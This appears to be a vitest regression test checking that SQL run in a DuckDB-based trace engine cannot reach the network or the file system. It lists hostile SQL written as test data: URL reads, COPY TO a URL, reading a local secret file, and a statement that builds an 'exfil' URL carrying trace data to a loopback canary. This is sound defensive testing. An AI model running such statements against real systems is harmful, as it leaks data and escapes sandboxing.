// Regression test for the hardening issue's first point: SQL in the engine (the console's, an
// expectations file's) could name a URL or a local file, and DuckDB fetched or wrote it. A canary
// server on loopback counts every request that reaches it; a secret file and a target path stand for
// the local files. Each statement must fail with DuckDB's refusal, and nothing may reach either.
// The canary runs in a child process: DuckDB-WASM's Node runtime fetches synchronously, so a server in
// this process could never answer (without the fix the test would hang instead of failing).
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Engine } from '../../src/engine/engine';
import { openNodeDuckDb } from '../../src/engine/duckdb/open-node';
import { openNativeConnection } from '../../src/engine/duckdb/native-node';

// Both engines: DuckDB-WASM (browser worker, CLI --engine wasm) and native DuckDB (the CLI's default), which
// opens with the same startup SQL in a worker thread.
const engines = {
  wasm: async () => Engine.create(await openNodeDuckDb()),
  native: async () => Engine.create(await openNativeConnection()),
};

describe.each(Object.keys(engines) as (keyof typeof engines)[])('SQL in the %s engine cannot reach the network or the file system', (kind) => {
  let engine: Engine;
  let canary: ChildProcess;
  let url: string;
  const dir = mkdtempSync(path.join(tmpdir(), 'otpscope-nonet-'));
  const secret = path.join(dir, 'secret.csv');
  const target = path.join(dir, 'written.csv');
  const hitLog = path.join(dir, 'hits.log');
  const hits = () => (existsSync(hitLog) ? readFileSync(hitLog, 'utf8').split('\n').filter(Boolean) : []);

  beforeAll(async () => {
    writeFileSync(secret, 'a,b\n1,2\n');
    const script = `const fs = require('fs');
      require('http').createServer((req, res) => { fs.appendFileSync(${JSON.stringify(hitLog)}, req.url + '\\n'); res.end('a,b\\n1,2\\n'); })
        .listen(0, '127.0.0.1', function () { console.log(this.address().port); });`;
    canary = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
    const port = await new Promise<string>((resolve) => canary.stdout!.once('data', (d: Buffer) => resolve(d.toString().trim())));
    url = `http://127.0.0.1:${port}`;
    engine = await engines[kind]();
    const demo = path.resolve(__dirname, '../fixtures/archives/demo.zip');
    await engine.load([{ name: 'demo.zip', bytes: new Uint8Array(readFileSync(demo)) }]);
  });
  afterAll(async () => {
    engine.db.close();
    canary.kill();
  });

  // Every way we know to name a URL or a path in DuckDB 1.4's SQL (native DuckDB 1.5 refuses them in the same words).
  const refused: [string, () => string, RegExp][] = [
    ['read_csv of a URL', () => `SELECT * FROM read_csv('${url}/read_csv.csv')`, /disabled by configuration/],
    ['read_csv_auto of a URL', () => `SELECT * FROM read_csv_auto('${url}/auto.csv')`, /disabled by configuration/],
    ['a URL as a table (replacement scan)', () => `SELECT * FROM '${url}/scan.csv'`, /disabled by configuration/],
    ['https URL', () => `SELECT * FROM read_csv('https://127.0.0.1:1/x.csv')`, /disabled by configuration/],
    ['s3 URL', () => `SELECT * FROM read_csv('s3://bucket/key.csv')`, /disabled by configuration/],
    ['read_text of a URL', () => `SELECT * FROM read_text('${url}/text')`, /disabled by configuration/],
    ['read_blob of a URL', () => `SELECT * FROM read_blob('${url}/blob')`, /disabled by configuration/],
    ['glob of a URL', () => `SELECT * FROM glob('${url}/glob*')`, /disabled by configuration/],
    ['sniff_csv of a URL', () => `SELECT * FROM sniff_csv('${url}/sniff.csv')`, /disabled by configuration/],
    ['a URL inside query()', () => `SELECT * FROM query('SELECT * FROM read_csv(''${url}/query.csv'')')`, /disabled by configuration/],
    // Native DuckDB has no httpfs built in (and may not load it), so it stops one step earlier.
    ['ATTACH a URL', () => `ATTACH '${url}/db.duckdb' AS remote`, /disabled by configuration|requires the extension httpfs to be loaded/],
    ['LOAD httpfs', () => `LOAD httpfs`, /disabled through configuration/],
    ['LOAD an extension from a URL', () => `LOAD '${url}/x.duckdb_extension'`, /disabled through configuration/],
    [
      'a URL built at run time (SET VARIABLE + getvariable, with trace data in it)',
      () => `SELECT * FROM read_csv(getvariable('exfil'))`,
      /disabled by configuration/,
    ],
    ['COPY FROM a URL', () => `COPY meta FROM '${url}/copy.csv'`, /disabled by configuration/],
    ['COPY TO a URL', () => `COPY (SELECT pid FROM events) TO '${url}/out.csv'`, /disabled by configuration/],
    ['read_text of a local file', () => `SELECT * FROM read_text('${secret}')`, /disabled by configuration/],
    ['read_csv of a local file', () => `SELECT * FROM read_csv('${secret}')`, /disabled by configuration/],
    ['COPY TO a local file', () => `COPY (SELECT pid FROM events) TO '${target}'`, /disabled by configuration/],
    ['EXPORT DATABASE', () => `EXPORT DATABASE '${dir}/export'`, /disabled by configuration/],
    ['switching external access back on', () => `SET enable_external_access = true`, /configuration has been locked/],
    ['resetting it', () => `RESET enable_external_access`, /configuration has been locked/],
    ['unlocking the configuration', () => `SET lock_configuration = false`, /configuration has been locked/],
    ['turning extension autoloading on', () => `SET autoload_known_extensions = true`, /configuration has been locked/],
    ['another extension repository', () => `SET custom_extension_repository = '${url}'`, /configuration has been locked/],
  ];

  test.each(refused)('%s is refused', (_what, sql, error) => {
    engine.query(`SET VARIABLE exfil = '${url}/leak?pids=' || (SELECT string_agg(DISTINCT pid, '_') FROM events)`);
    expect(() => engine.query(sql())).toThrow(error);
  });

  test('no request reached the canary server and no file was written', () => {
    expect(hits()).toEqual([]);
    expect(existsSync(target)).toBe(false);
    expect(existsSync(path.join(dir, 'export'))).toBe(false);
  });

  test('the settings read back as locked and off', () => {
    const setting = (name: string) => engine.query(`SELECT current_setting('${name}')`).rows[0][0];
    expect(setting('enable_external_access')).toBe(false);
    expect(setting('lock_configuration')).toBe(true);
    expect(setting('autoload_known_extensions')).toBe(false);
    expect(setting('autoinstall_known_extensions')).toBe(false);
    expect(engine.query('SELECT count(*)::INTEGER FROM events').rows[0][0]).toBeGreaterThan(0);
  });
});
